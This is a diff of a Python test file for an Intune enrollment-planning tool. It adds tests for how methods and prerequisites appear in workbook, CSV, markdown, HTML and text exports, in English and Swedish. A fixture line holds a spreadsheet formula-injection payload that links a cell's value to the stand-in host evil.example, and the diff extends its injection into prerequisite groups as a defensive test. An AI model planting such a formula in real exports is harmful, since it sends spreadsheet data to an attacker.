@@ -18,11 +18,12 @@ from markupsafe import escape
 from advisor.evaluate.engine import Engine
 from advisor.model.errors import InputError
 from advisor.model.facts import TEXT, Assessment, parse_assessment
+from advisor.model.i18n import gettext
 from advisor.model.plan import Plan
 from advisor.model.vocabulary import Language, origin, term
-from advisor.output.export import RATIONALE_COLUMNS, to_html, to_xlsx
+from advisor.output.export import METHOD_COLUMNS, PREREQUISITE_COLUMNS, RATIONALE_COLUMNS, to_html, to_xlsx
 from advisor.output.formats import FORMATS, ExportFormat, export
-from advisor.output.render import to_markdown, to_table
+from advisor.output.render import CSV_COLUMNS, to_csv, to_markdown, to_table
 from advisor.planning.planner import make_plan
 
 # OWASP's list of characters that make a spreadsheet read a cell as a formula.
@@ -105,7 +106,13 @@ MARK = 'HYPERLINK("http://evil.example/?x="&A1,"Click")'
 def _hostile(value: Any, trigger: str) -> Any:
     if isinstance(value, dict):
         return {
-            k: f"{trigger}{MARK}{v}" if k in HOSTILE_KEYS and isinstance(v, str) else _hostile(v, trigger)
+            k: f"{trigger}{MARK}{v}"
+            if k in HOSTILE_KEYS and isinstance(v, str)
+            else [f"{trigger}{MARK}{g}" for g in v]
+            if k == "groups"
+            and isinstance(v, list)
+            and all(isinstance(g, str) for g in v)  # a prerequisite's
+            else _hostile(v, trigger)
             for k, v in value.items()
         }
     if isinstance(value, list):
@@ -341,9 +348,11 @@ def test_every_export_says_where_each_reason_comes_from(
 def test_a_plan_saved_before_reasons_had_provenance_still_loads_and_shows(
     contoso: Assessment, engine: Engine
 ) -> None:
-    def without(node: Any) -> Any:
+    def without(node: Any) -> Any:  # such a plan had no methods or prerequisites either
         if isinstance(node, dict):
-            return {k: without(v) for k, v in node.items() if k != "provenance"}
+            return {
+                k: without(v) for k, v in node.items() if k not in ("provenance", "methods", "prerequisites")
+            }
         return [without(v) for v in node] if isinstance(node, list) else node
 
     saved = without(_plan(contoso, engine, lambda text: text).model_dump(mode="json"))
@@ -352,3 +361,220 @@ def test_a_plan_saved_before_reasons_had_provenance_still_loads_and_shows(
     for shown in (to_markdown(old), to_table(old), to_html(old)):
         assert "None" not in shown
     assert to_xlsx(old).startswith(b"PK")
+
+
+# How each group's devices enroll, and what to set up by when, in every export.
+RETAIL_IOS = {
+    "en": ("Retail", "iOS/iPadOS", "corporate", "Apple automated device enrollment (iOS/iPadOS)"),
+    "sv": ("Retail", "iOS/iPadOS", "företagsägd", "Apples automatiserade enhetsregistrering (iOS/iPadOS)"),
+}
+RESET = {"en": "yes, devices in use are wiped", "sv": "ja, enheter som används rensas"}
+PERSONAL_ANDROID = {
+    "en": ("Sales and marketing", "Android", "personal", "App protection without enrollment (Android)"),
+    "sv": ("Sales and marketing", "Android", "privatägd", "Appskydd utan registrering (Android)"),
+}
+DUE = {"en": "17 June 2027", "sv": "17 juni 2027"}
+NO_RULE = {
+    "en": "No rule of the rulebook chooses it for these devices.",
+    "sv": "Ingen regel i regelboken väljer den för de här enheterna.",
+}
+
+
+def _contoso(contoso: Assessment, engine: Engine, language: Language = "en") -> Plan:
+    return _plan(contoso, engine, lambda text: text, language=language)
+
+
+def test_contoso_plans_the_methods_the_exports_are_tested_on(contoso: Assessment, engine: Engine) -> None:
+    """What the tests below read back: the planner's choices for contoso (rules/methods.yaml)."""
+    plan = _contoso(contoso, engine)
+    retail = {(m.platform, m.ownership): m for m in plan.group("retail").methods}
+    assert (retail[("ios", "corporate")].method, retail[("ios", "corporate")].reset_required) == (
+        "ios_ade",
+        True,
+    )
+    sales = {(m.platform, m.ownership): m for m in plan.group("sales-marketing").methods}
+    assert sales[("android", "personal")].method == "android_app_protection"
+    assert plan.prerequisites[0].due == "2027-06-17"
+    assert plan.prerequisites[0].groups == []  # every group's
+
+
+@pytest.mark.parametrize("language", ["en", "sv"])
+def test_the_workbook_has_a_methods_and_a_prerequisites_sheet(
+    contoso: Assessment, engine: Engine, language: Language
+) -> None:
+    from openpyxl import load_workbook
+
+    plan = _contoso(contoso, engine, language)
+    book = load_workbook(io.BytesIO(to_xlsx(plan)))
+    assert book.sheetnames[3:] == (
+        ["Methods", "Prerequisites"] if language == "en" else ["Metoder", "Förutsättningar"]
+    )
+    header, *rows = [list(row) for row in book.worksheets[3].iter_rows(values_only=True)]
+    assert header == [gettext(c, language) for c in METHOD_COLUMNS]
+    assert len(rows) == sum(len(g.methods) for g in plan.groups)
+    by_kind = {tuple(row[:4]): row for row in rows}
+    column = {c: i for i, c in enumerate(METHOD_COLUMNS)}
+    retail = by_kind[RETAIL_IOS[language]]
+    assert retail[column["Reset"]] == RESET[language]
+    assert retail[column["Devices"]] == 500
+    assert retail[column["Prerequisites"]] == "apns-certificate, apple-business-manager, ade-token"
+    assert retail[column["Rule"]] == "ios-automated-device-enrollment"
+    assert retail[column["Provenance"]] == term("current_practice", language)
+    assert term("ios_shared_ipad", language) + ":" in retail[column["Why not the others"]]
+    android = by_kind[PERSONAL_ANDROID[language]]
+    assert android[column["Reset"]] == term("no", language)
+    assert android[column["What the user experiences"]].startswith(
+        ("The phone is not enrolled", "Telefonen registreras inte")
+    )
+
+    header, *rows = [list(row) for row in book.worksheets[4].iter_rows(values_only=True)]
+    assert header == [gettext(c, language) for c in PREREQUISITE_COLUMNS]
+    assert [row[0] for row in rows] == [p.code for p in plan.prerequisites]
+    licences = rows[0]
+    assert licences[2:6] == [
+        "2027-06-17",
+        "every group" if language == "en" else "alla grupper",
+        term("current_practice", language),
+        "https://learn.microsoft.com/mem/intune/fundamentals/licenses",
+    ]
+    apple = next(row for row in rows if row[0] == "ade-token")
+    assert "Retail" in apple[3].split(", ")
+
+
+def test_csv_rows_say_what_they_are_and_share_one_header(contoso: Assessment, engine: Engine) -> None:
+    plan = _contoso(contoso, engine)
+    header, *rows = list(csv.reader(io.StringIO(to_csv(plan))))
+    assert header == list(CSV_COLUMNS)
+    assert all(len(row) == len(header) for row in rows)
+    kinds = [row[0] for row in rows]
+    placements = sum(len(ph.entries) for ph in plan.phases)
+    methods = sum(len(g.methods) for g in plan.groups)
+    assert kinds == ["placement"] * placements + ["method"] * methods + ["prerequisite"] * len(
+        plan.prerequisites
+    )
+    column = {c: i for i, c in enumerate(CSV_COLUMNS)}
+
+    def cells(row: list[str], *names: str) -> list[str]:
+        return [row[column[n]] for n in names]
+
+    retail = next(
+        r
+        for r in rows
+        if cells(r, "row", "group", "platforms", "ownership")
+        == ["method", "retail", "iOS/iPadOS", "corporate"]
+    )
+    assert cells(retail, "method", "devices", "reset", "user affinity", "rules", "provenance") == [
+        "Apple automated device enrollment (iOS/iPadOS)",
+        "500",
+        "yes",
+        "yes",
+        "ios-automated-device-enrollment",
+        "Current Microsoft docs",
+    ]
+    assert cells(retail, "phase", "users", "enrollment", "due") == ["", "", "", ""]
+    android = next(
+        r
+        for r in rows
+        if cells(r, "row", "group", "platforms", "ownership")
+        == ["method", "sales-marketing", "Android", "personal"]
+    )
+    assert cells(android, "method", "reset", "prerequisites") == [
+        "App protection without enrollment (Android)",
+        "no",
+        "entra-id-p1 app-protection-policies privacy-statement",
+    ]
+    prerequisite = next(
+        r for r in rows if r[0] == "prerequisite" and r[column["prerequisites"]] == "app-protection-policies"
+    )
+    assert cells(prerequisite, "group", "name", "due", "source") == [
+        "sales-marketing",
+        "Sales and marketing",
+        "2027-07-18",
+        "https://learn.microsoft.com/mem/intune/apps/app-protection-policy",
+    ]
+    swedish = list(csv.reader(io.StringIO(to_csv(_contoso(contoso, engine, "sv")))))
+    assert swedish[0][:2] == ["rad", "fas"]
+    assert {row[0] for row in swedish[1:]} == {"placering", "metod", "förutsättning"}
+
+
+@pytest.mark.parametrize("language", ["en", "sv"])
+def test_markdown_has_each_groups_methods_and_a_checklist(
+    contoso: Assessment, engine: Engine, language: Language
+) -> None:
+    plan = _contoso(contoso, engine, language)
+    markdown = to_markdown(plan)
+    retail = markdown.split("### Retail")[1].split("### ")[0]
+    _, platform, owner, method = RETAIL_IOS[language]
+    assert f"- {platform}, {owner}: **{method}**; 500 " in retail
+    assert RESET[language] in retail
+    sales = markdown.split("### Sales and marketing")[1].split("### ")[0]
+    assert f"- Android, {PERSONAL_ANDROID[language][2]}: **{PERSONAL_ANDROID[language][3]}**" in sales
+    checklist = [line for line in markdown.splitlines() if line.startswith("- [ ] ")]
+    assert len(checklist) == len(plan.prerequisites)
+    assert DUE[language] in checklist[0]
+    assert "[intune-licences](https://learn.microsoft.com/mem/intune/fundamentals/licenses)" in checklist[0]
+    assert markdown.index("- [ ] ") < markdown.index("### IT")  # after the warnings, before the groups
+    html = _html_of(markdown)
+    assert html.count("<li>[ ] ") == len(plan.prerequisites)
+
+
+@pytest.mark.parametrize("language", ["en", "sv"])
+def test_the_pdf_shows_the_methods_table_and_the_checklist(
+    contoso: Assessment, engine: Engine, language: Language
+) -> None:
+    plan = _contoso(contoso, engine, language)
+    page = to_html(plan)
+    retail = page.split("<h3>Retail</h3>")[1].split("</section>")[0]
+    _, platform, owner, method = RETAIL_IOS[language]
+    assert (
+        f'<td>{platform}</td>\n<td>{owner}</td>\n<td><b>{method}</b></td>\n<td>500</td>\n<td class="reset">{RESET[language]}</td>'
+        in retail
+    )
+    assert page.count('<table class="methods">') == sum(1 for g in plan.groups if g.methods)
+    checklist = page.split('<ul class="checklist">')[1].split("</ul>")[0]
+    assert checklist.count("<li>") == len(plan.prerequisites)
+    assert DUE[language] in checklist
+
+
+def test_an_alternative_no_rule_chooses_says_so_in_every_format(contoso: Assessment, engine: Engine) -> None:
+    from openpyxl import load_workbook
+
+    for language in ("en", "sv"):
+        plan = _contoso(contoso, engine, language)
+        retail = plan.group("retail")
+        first = retail.methods[0]
+        unchosen = first.model_copy(
+            update={"alternatives": [a.model_copy(update={"why_not": []}) for a in first.alternatives]}
+        )
+        groups = [
+            g.model_copy(update={"methods": [unchosen, *g.methods[1:]]}) if g.id == "retail" else g
+            for g in plan.groups
+        ]
+        plan = plan.model_copy(update={"groups": groups})
+        said = NO_RULE[language]
+        assert said in to_html(plan)
+        assert f"{term(first.alternatives[0].method, language)}: {said}" in to_markdown(plan)
+        sheet = load_workbook(io.BytesIO(to_xlsx(plan))).worksheets[3]
+        assert any(said in str(cell.value) for row in sheet.iter_rows() for cell in row)
+
+
+def test_the_text_table_lists_the_methods_and_prerequisites_after_the_warnings(
+    contoso: Assessment, engine: Engine
+) -> None:
+    plan = _contoso(contoso, engine)
+    text = to_table(plan)
+    _, rest = text.split("\nWarnings:\n")[1].split("\nEnrollment methods:\n")
+    methods, prerequisites = rest.split("\nPrerequisites:\n")
+    assert (
+        "Retail:\n- iOS/iPadOS, corporate: Apple automated device enrollment (iOS/iPadOS); 500 devices; reset: yes, devices in use are wiped; user affinity: yes\n"
+        in methods
+    )
+    assert (
+        "- Android, personal: App protection without enrollment (Android); 500 devices; reset: no" in methods
+    )
+    lines = prerequisites.splitlines()
+    assert len(lines) == len(plan.prerequisites)
+    assert lines[0] == (
+        "- [ ] Assign an Intune licence to every user in the rollout. "
+        "(due 17 June 2027; for every group; Current Microsoft docs)"
+    )
